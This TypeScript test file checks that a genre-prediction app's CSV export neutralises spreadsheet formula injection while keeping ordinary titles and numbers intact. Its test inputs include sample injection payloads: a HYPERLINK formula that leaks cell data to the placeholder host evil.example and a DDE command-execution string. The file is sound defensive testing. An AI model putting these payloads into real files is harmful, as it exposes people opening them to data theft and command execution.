// The predictions CSV is safe to open in a spreadsheet: text cells a spreadsheet would run as a formula
// (OWASP CSV injection: = + - @ tab CR) get a leading quote and are quoted; ordinary text and our numbers are unchanged.
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { csvTextCell, predictionsCsv } from '../server/engine/predictionsOut';
import type { Prediction } from '../server/engine/run';

function prediction(title: string, line: number, id?: string): Prediction {
  const at = { line, character: 0, offset: 0 };
  return { row: { index: line, id, title, text: '', genres: null, poster: null, range: { file: 'x.csv', start: at, end: at } },
    proba: [0.91234567, 0.05], predicted: ['Drama'], posterMissing: null };
}

const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1', '-1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];

test('formula-like text cells get a leading quote and are quoted, and read back as that text', () => {
  for (const v of hostile) {
    const cell = csvTextCell(v);
    assert.ok(cell.startsWith(`"'`), `${JSON.stringify(v)} → ${cell}`);
    assert.deepEqual(parse(`${cell}\n`), [[`'${v}`]]);
  }
});

test('ordinary titles are written as before', () => {
  assert.equal(csvTextCell('The Matrix'), 'The Matrix');
  assert.equal(csvTextCell('Crouching Tiger, Hidden Dragon'), '"Crouching Tiger, Hidden Dragon"');
  assert.equal(csvTextCell('The "Best" Movie'), '"The ""Best"" Movie"');
  assert.equal(csvTextCell('Rocky 2 = Rocky 1 + 1'), 'Rocky 2 = Rocky 1 + 1');
  assert.equal(csvTextCell(''), '');
});

test('predictionsCsv neutralises titles and ids but leaves line numbers and probabilities as numbers', () => {
  const preds = [prediction('The Matrix', 1, 'm1'), ...hostile.map((t, i) => prediction(t, i + 2, i === 0 ? '-7' : `m${i + 2}`))];
  const rows = parse(predictionsCsv(preds, ['Drama', 'Comedy'])) as string[][];
  assert.deepEqual(rows[0], ['id', 'title', 'line', 'predicted_genres', 'p_Drama', 'p_Comedy']);
  assert.deepEqual(rows[1], ['m1', 'The Matrix', '2', 'Drama', '0.9123', '0.05']);
  hostile.forEach((t, i) => assert.equal(rows[i + 2][1], `'${t}`));
  assert.equal(rows[2][0], "'-7", 'an id taken from the data is text like any other cell');
  for (const r of rows.slice(1)) {
    assert.match(r[2], /^\d+$/);
    assert.match(r[4], /^\d(\.\d+)?$/);
  }
});

test('genre names from the training data are neutralised in the header and the predicted column', () => {
  const p = prediction('Plain', 0);
  p.predicted = ['=EVIL()'];
  const rows = parse(predictionsCsv([p], ['=EVIL()', 'Drama'])) as string[][];
  assert.equal(rows[0][4], 'p_=EVIL()', 'the header cell starts with p_, so it is not a formula');
  assert.equal(rows[1][3], "'=EVIL()");
});
